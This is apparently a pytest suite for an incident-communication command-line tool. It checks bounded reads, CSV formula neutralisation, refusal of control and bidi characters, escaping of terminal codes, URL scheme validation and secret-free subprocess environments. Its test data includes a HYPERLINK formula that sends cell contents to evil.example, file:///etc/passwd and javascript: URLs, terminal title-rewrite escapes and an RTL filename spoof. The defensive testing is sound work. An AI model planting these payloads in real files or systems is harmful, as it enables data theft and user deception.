"""Hostile input at the edges: endless files and streams, spreadsheet formulas,
control characters in names, terminal codes in what the command line prints,
web addresses in settings, secrets in a subprocess's environment, and digits
from other scripts in references."""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
import textwrap
import threading
from pathlib import Path

import pytest

from warroom import inputs
from warroom.app import open_store
from warroom.domain import Severity
from warroom.errors import InputError, NotFound
from warroom.identity import SYSTEM
from warroom.services import audiences, cadence, channels, incidents, people, settings, stakeholders, templates
from warroom.services import drafts as drafts_service
from warroom.text.timeparse import parse_when

from tests.conftest import T0

DEV_ZERO = Path("/dev/zero")
needs_dev_zero = pytest.mark.skipif(not DEV_ZERO.exists(), reason="no /dev/zero here")
needs_fifo = pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")


@pytest.fixture
def full(db_path, clock):
    s = open_store(db_path, clock=clock)
    yield s
    s.close()


# -- 1. bounded reads ------------------------------------------------------------------


@needs_dev_zero
def test_an_endless_device_is_refused_at_the_limit():
    with pytest.raises(InputError, match="at most 1 KB") as caught:
        inputs.read_bytes(DEV_ZERO, 1024)
    assert caught.value.field == "file"
    assert inputs.read_bytes(io.BytesIO(b"x" * 1024), 1024) == b"x" * 1024   # the limit itself is fine


@needs_fifo
def test_a_fifo_is_read_in_chunks_and_refused_past_the_limit(tmp_path):
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    written = []

    def endless_writer() -> None:
        try:
            with open(fifo, "wb") as fh:
                while sum(written) < 50 * inputs.MIB:  # far more than the reader takes
                    fh.write(b"y" * inputs.CHUNK)
                    written.append(inputs.CHUNK)
        except BrokenPipeError:
            pass  # the reader stopped reading: what we want

    writer = threading.Thread(target=endless_writer, daemon=True)
    writer.start()
    with pytest.raises(InputError, match="at most 256 KB"):
        inputs.read_text(fifo, 256 * inputs.KIB)
    writer.join(timeout=30)
    assert not writer.is_alive() and sum(written) < 50 * inputs.MIB

    def short_writer() -> None:
        with open(fifo, "wb") as fh:
            fh.write("\ufeffhallo, ♥\n".encode())

    threading.Thread(target=short_writer, daemon=True).start()
    assert inputs.read_text(fifo, 100) == "hallo, ♥\n"   # the byte-order mark is dropped


@needs_dev_zero
@pytest.mark.parametrize("argv, limit", [
    (["log", "INC-1", "--file", "/dev/zero"], "80,000 bytes"),
    (["lint", "/dev/zero"], "80,000 bytes"),
    (["update", "new", "INC-1", "--audience", "customers", "--body-file", "/dev/zero"], "80,000 bytes"),
    (["stakeholder", "import", "/dev/zero"], "10 MB"),
    (["template", "import", "/dev/zero"], "10 MB"),
])
def test_every_file_argument_is_read_with_a_limit(cli, argv, limit):
    assert cli("incident", "open", "Base", "--severity", "SEV3")[0] == 0
    code, _, err = cli(*argv)
    assert code == 2 and f"at most {limit}" in err and "/dev/zero" in err


def test_standard_input_is_read_with_a_limit(cli, monkeypatch):
    assert cli("incident", "open", "Base", "--severity", "SEV3")[0] == 0
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(b"z" * 200_000)))
    code, _, err = cli("log", "INC-1", "--file", "-")
    assert code == 2 and "Standard input is too large" in err and "at most 80,000 bytes" in err
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(b"name,audience\nAcme,customers\n")))
    code, out, err = cli("stakeholder", "import", "-")
    assert code == 0, err
    assert "Imported 1 stakeholders" in out


def test_a_secret_on_standard_input_is_one_bounded_line(cli, monkeypatch, memory_keyring):
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(b"h" * 1_000_000)))  # no line break at all
    code, _, err = cli("channel", "add", "slack", "--kind", "slack", "--secret")
    assert code == 2 and "longer than 16 KB" in err
    # No channel secret reached the keyring (the device key that signs the journal may be there).
    assert not [name for _, name in memory_keyring.items if not name.startswith("archive-signing-key:")]


CHILD = textwrap.dedent(r"""
    import resource, subprocess, sys

    db = sys.argv[1]
    proc = subprocess.Popen([sys.executable, "-m", "warroom.cli", "--db", db, "log", "INC-1", "--file", "-"],
                            stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    chunk = b"a" * (1 << 20)
    sent = 0
    try:
        for _ in range(300):   # 300 MB, if the reader takes it
            proc.stdin.write(chunk)
            sent += len(chunk)
        proc.stdin.close()
    except BrokenPipeError:
        pass                   # the reader refused and went away
    err = proc.stderr.read().decode()
    code = proc.wait()
    print(code, sent, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
    print(err)
""")


@pytest.mark.skipif(sys.platform != "linux", reason="ru_maxrss in kilobytes is Linux's")
def test_300_megabytes_through_a_pipe_never_reach_memory(full, db_path, tmp_path):
    incidents.open_incident(full, SYSTEM, title="Base", severity="SEV3")
    full.close()
    # A process of its own starts the command, so its children's peak memory is the command's alone.
    done = subprocess.run([sys.executable, "-c", CHILD, str(db_path)], capture_output=True, text=True,
                          timeout=300, cwd=Path(__file__).resolve().parents[2])
    first, _, err = done.stdout.partition("\n")
    code, sent, peak_kb = (int(x) for x in first.split())
    assert code == 2 and "at most 80,000 bytes" in err, done.stdout + done.stderr
    assert sent < 300 * (1 << 20)           # it stopped reading, rather than reading all and then refusing
    assert peak_kb < 150 * 1024              # far from the 300 MB a read-it-all would have held


# -- 2. spreadsheets and control characters ---------------------------------------------------


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+SUM(1,2)", "-2+3", "@cmd", "'=quoted already",
            "'Connor & Co", "Plain Name"]


def test_csv_export_neutralises_formulas_and_the_import_reads_them_back(full, db_path, tmp_path, clock):
    for name in FORMULAS:
        stakeholders.save(full, "Mia", name=name, audience="customers", phone="+44 20 7946 0958")
    exported = stakeholders.export_csv(full)
    rows = list(csv.DictReader(io.StringIO(exported)))
    cells = {r["name"] for r in rows}
    for name in FORMULAS:
        escaped = name[:1] in "=+-@'"
        assert (("'" + name) in cells) == escaped and (name in cells) == (not escaped)
    assert all(r["phone"] == "'+442079460958" for r in rows)  # a number a spreadsheet would compute
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())

    # Into a fresh database: the same text as before, not the escape.
    other = open_store(tmp_path / "other.db", clock=clock)
    try:
        assert stakeholders.import_csv(other, "Mia", exported, source="export.csv") == len(FORMULAS)
        back = {s.name: s for s in stakeholders.list_stakeholders(other)}
        assert set(back) == set(FORMULAS)
        assert {s.phone for s in back.values()} == {"+442079460958"}
    finally:
        other.close()


@pytest.mark.parametrize("bad, what", [
    ("\tTab first", "line break or tab"),
    ("\rCarriage return", "line break or tab"),
    ("Null\x00byte", "control character"),
    ("Bell\x07", "control character"),
    ("DEL\x7f", "control character"),
    ("C1 CSI \x9b2J", "control character"),
    ("Invoice \u202egpj.exe", "text-direction control"),
    ("Isolate \u2066x\u2069", "text-direction control"),
])
def test_names_with_control_characters_are_refused_at_import(full, bad, what):
    text = "name,audience,owner\n" f'"{bad}",customers,Mia\n'
    with pytest.raises(InputError, match=what) as caught:
        stakeholders.import_csv(full, "Mia", text, source="people.csv")
    assert caught.value.field == "name" and "people.csv line 2" in str(caught.value)
    assert stakeholders.list_stakeholders(full) == []
    with pytest.raises(InputError, match="owner") as caught:
        stakeholders.save(full, "Mia", name="Fine", audience="customers", owner=bad)
    assert caught.value.field == "owner"


def test_every_name_and_title_refuses_control_characters(full):
    people.save(full, SYSTEM, "Dana", roles="incident_commander,administrator,communications_owner")
    hostile = "ALL CLEAR\u202e \x1b]0;pwned\x07"
    checks = [
        ("title", lambda: incidents.open_incident(full, "Dana", title=hostile, severity="SEV2")),
        ("name", lambda: people.save(full, "Dana", hostile, roles="viewer")),
        ("components", lambda: incidents.open_incident(full, "Dana", title="Ok", severity="SEV2",
                                                       components=["Checkout\x1b[2J"])),
        ("label", lambda: audiences.save(full, "Dana", "customers", label=hostile)),
        ("name", lambda: settings.set_org(full, "Dana", name=hostile)),
        ("name", lambda: templates.save(full, "Dana", name=hostile, locale="en", category="any",
                                        audience="customers", phase="initial", subject="S", long="L",
                                        short="S", chat="C")),
        ("subject", lambda: templates.save(full, "Dana", name="Mine", locale="en", category="any",
                                           audience="customers", phase="initial", subject="S\x1b[2J",
                                           long="L", short="S", chat="C")),
        ("name", lambda: channels.add(full, "Dana", "site\x1b", "sitepage", {"out_dir": "/tmp/x"})),
        ("name", lambda: channels.add(full, "Dana", "site", "sitepage", {"out_dir": "/tmp/x",
                                                                        "name": "Status\x1b[2J"})),
    ]
    for field, attempt in checks:
        with pytest.raises(InputError) as caught:
            attempt()
        assert caught.value.field == field, (field, str(caught.value))
    inc = incidents.open_incident(full, "Dana", title="Checkout down", severity="SEV2")
    with pytest.raises(InputError) as caught:
        incidents.update_incident(full, "Dana", inc.ref, title="New\ttitle")
    assert caught.value.field == "title" and "line break or tab" in str(caught.value)
    # An update's words: the title and subject on one line; the texts keep line breaks and tabs.
    draft = drafts_service.compose_drafts(full, "Dana", inc.id, ["customers"])[0]
    for words, field in (({"long": "fine\n\tindented \u202e"}, "long"), ({"chat": "a \x1b[2J"}, "chat"),
                         ({"title": "Title\nsecond line"}, "title")):
        with pytest.raises(InputError) as caught:
            drafts_service.save_revision(full, "Dana", draft.id, **{"subject": "S", "long": "L", **words})
        assert caught.value.field == field
    saved = drafts_service.save_revision(full, "Dana", draft.id, subject="S", long="Line one\n\tLine two\r\n")
    assert saved.long == "Line one\n\tLine two\r\n"


def test_a_name_given_as_the_actor_refuses_terminal_codes(cli):
    code, _, err = cli("incident", "list", "--as", "Mallory\x1b]0;pwned\x07")
    assert code == 2 and "--as" in err and "\x1b" not in err


# -- 3. terminals ---------------------------------------------------------------------------


HOSTILE_TITLE = "Checkout \x1b]0;pwned\x07 down \x1b[2J now"


def _plant(db_path, title: str = HOSTILE_TITLE, author: str = "Eve\x1b[31m") -> None:
    """Text from before these checks (or another tool): written straight into the file."""
    con = sqlite3.connect(db_path)
    with con:
        con.execute("UPDATE incident SET title = ?", (title,))
        con.execute("UPDATE timeline_entry SET author = ?", (author,))
    con.close()


def test_the_command_line_prints_no_terminal_codes(cli, db_path):
    assert cli("incident", "open", "Checkout down", "--severity", "SEV2")[0] == 0
    _plant(db_path)
    for argv in (["incident", "list"], ["incident", "show", "INC-1"], ["timeline", "INC-1"],
                 ["export", "INC-1", "--format", "markdown"]):
        code, out, err = cli(*argv)
        assert code == 0, err
        assert "\x1b" not in out and "\x07" not in out, argv
        assert "\\u001b]0;pwned\\u0007" in out or "\\u001b[31m" in out, argv
    code, out, _ = cli("incident", "list")
    assert "Checkout \\u001b]0;pwned\\u0007 down \\u001b[2J now" in out
    # JSON stays JSON, and says exactly what is stored.
    code, out, _ = cli("incident", "show", "INC-1", "--json")
    assert code == 0 and "\x1b" not in out and json.loads(out)["title"] == HOSTILE_TITLE


def test_errors_are_printed_without_terminal_codes(cli, db_path):
    code, _, err = cli("incident", "show", "INC-\x1b[2J")
    assert code == 2 and "INC-" in err and "\x1b" not in err


def test_c1_and_bidi_controls_are_escaped_in_text_and_valid_in_json():
    from warroom.cli.common import for_terminal

    assert for_terminal("a\x9b31mb\u202ec\td\r\ne\rf\x7f") == "a\\u009b31mb\\u202ec\td\r\ne\\u000df\\u007f"
    raw = json.dumps({"t": "x\x9b\u202e\x7f"}, ensure_ascii=False)
    assert json.loads(for_terminal(raw)) == {"t": "x\x9b\u202e\x7f"}


# -- 5. channel settings --------------------------------------------------------------------


@pytest.mark.parametrize("url", ["javascript:alert(1)", "file:///etc/passwd", "data:text/html,<b>x</b>",
                                 "ftp://status.example.com", "https://", "status.example.com"])
def test_a_web_address_setting_is_http_or_https(full, tmp_path, url):
    with pytest.raises(InputError, match="https://") as caught:
        channels.add(full, SYSTEM, "site", "sitepage", {"out_dir": str(tmp_path / "site"), "url": url})
    assert caught.value.field == "url"
    channels.add(full, SYSTEM, "site", "sitepage", {"out_dir": str(tmp_path / "site"),
                                                    "url": "https://status.example.com"})
    with pytest.raises(InputError) as caught:
        channels.update(full, SYSTEM, "site", config={"url": url})
    assert caught.value.field == "url"
    assert channels.get(full, "site").config["url"] == "https://status.example.com"


def test_an_empty_value_clears_an_optional_setting_and_is_refused_for_a_required_one(cli, tmp_path):
    out_dir = tmp_path / "site"
    assert cli("channel", "add", "site", "--kind", "sitepage", "--set", f"out_dir={out_dir}",
               "--set", "url=https://status.example.com", "--set", "upload_command=true")[0] == 0
    code, _, err = cli("channel", "set", "site", "--set", "url=", "--set", "upload_command=")
    assert code == 0, err
    config = json.loads(cli("channel", "list", "--json")[1])[0]["config"]
    assert config["url"] == "" and config["upload_command"] == "" and config["out_dir"] == str(out_dir.resolve())
    code, _, err = cli("channel", "set", "site", "--set", "out_dir=")
    assert code == 2 and "out_dir is required, so it cannot be cleared" in err


# -- 6. subprocesses ------------------------------------------------------------------------


def test_the_upload_command_gets_no_secrets_in_its_environment(full, tmp_path, monkeypatch):
    monkeypatch.setenv("WARROOM_KEY_PASSPHRASE", "correct horse battery staple")
    monkeypatch.setenv("GITHUB_TOKEN", "ghp_notforyou")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "notforyou")
    monkeypatch.setenv("LC_PAPER", "de_DE.UTF-8")
    monkeypatch.setenv("LC_API_KEY", "notforyou")   # an allowed prefix cannot carry a secret through
    dump = tmp_path / "env.json"
    code = f"import json, os; json.dump(dict(os.environ), open({str(dump)!r}, 'w'))"
    command = f"{sys.executable} -c \"{code}\""
    channels.add(full, SYSTEM, "site", "sitepage", {"out_dir": str(tmp_path / "site"), "upload_command": command})
    assert "ran the upload command" in channels.test(full, SYSTEM, "site")
    env = json.loads(dump.read_text())
    assert not {"WARROOM_KEY_PASSPHRASE", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "LC_API_KEY"} & set(env)
    assert "correct horse" not in json.dumps(env)
    assert env["PATH"] == os.environ["PATH"] and env["LC_PAPER"] == "de_DE.UTF-8"
    assert env["WARROOM_SITE_DIR"] == str((tmp_path / "site").resolve())
    assert "XDG_DATA_HOME" in env  # where the user's own tools keep their settings


def test_a_proxy_with_a_password_stays_behind():
    from warroom.procenv import child_env

    env = child_env(base={"HTTPS_PROXY": "http://ana:hunter22@proxy.example:3128",
                          "http_proxy": "http://proxy.example:3128", "PATH": "/bin"})
    assert env == {"http_proxy": "http://proxy.example:3128", "PATH": "/bin"}


def test_the_environment_is_an_allow_list():
    from warroom.procenv import child_env

    base = {"PATH": "/bin", "HOME": "/home/x", "LANG": "C.UTF-8", "LC_ALL": "C", "TZ": "UTC",
            "SSH_AUTH_SOCK": "/run/agent", "PYTHONPATH": "/evil", "LD_PRELOAD": "/evil.so",
            "WARROOM_DB": "/x.db", "WARROOM_USER": "Dana", "DATABASE_PASSWORD": "p", "SLACK_WEBHOOK_URL": "u",
            "MY_API_KEY": "k", "OAUTH_TOKEN": "t", "CREDENTIALS": "c"}
    assert child_env({"WARROOM_SITE_DIR": "/site"}, base=base) == {
        "PATH": "/bin", "HOME": "/home/x", "LANG": "C.UTF-8", "LC_ALL": "C", "TZ": "UTC",
        "SSH_AUTH_SOCK": "/run/agent", "WARROOM_SITE_DIR": "/site"}


# -- 7. references take ASCII digits only -----------------------------------------------------


@pytest.mark.parametrize("ref", ["٣", "INC-٣", "３", "INC-３", "inc-\u0663", "𝟑"])
def test_references_take_ascii_digits_only(full, ref):
    for i in range(3):
        incidents.open_incident(full, SYSTEM, title=f"Incident {i + 1}", severity="SEV3")
    assert incidents.get(full, "3", viewer=SYSTEM).ref == "INC-3"
    with pytest.raises(NotFound):
        incidents.get(full, ref, viewer=SYSTEM)


def test_an_id_in_other_digits_is_not_an_id(full):
    inc = incidents.open_incident(full, SYSTEM, title="Base", severity="SEV3")
    arabic = inc.id.hex.translate(str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩"))
    assert incidents.get(full, inc.id.hex, viewer=SYSTEM).id == inc.id
    if arabic != inc.id.hex:
        with pytest.raises(NotFound):
            incidents.get(full, arabic, viewer=SYSTEM)


@pytest.mark.parametrize("text", ["٣m ago", "١٠:٣٠", "in ٢h", "２０２６-１１-２３T10:00Z"])
def test_times_take_ascii_digits_only(text):
    with pytest.raises(InputError, match="0-9"):
        parse_when(text, now=T0)
    assert parse_when("3m ago", now=T0) < T0


def test_intervals_severities_and_ports_take_ascii_digits_only(cli):
    for text in ("٣٠m", "３０m", "٩٠"):
        with pytest.raises(InputError, match="Cannot read the interval"):
            cadence.parse_interval(text)
    assert cadence.parse_interval("90").total_seconds() == 5400
    with pytest.raises(InputError, match="Unknown severity"):
        Severity.parse("٣")
    assert Severity.parse("3") is Severity.SEV3
    code, _, err = cli("channel", "add", "mail", "--kind", "email", "--set", "host=smtp.example.com",
                       "--set", "from_addr=status@example.com", "--set", "port=٥٨٧")
    assert code == 2 and "port" in err
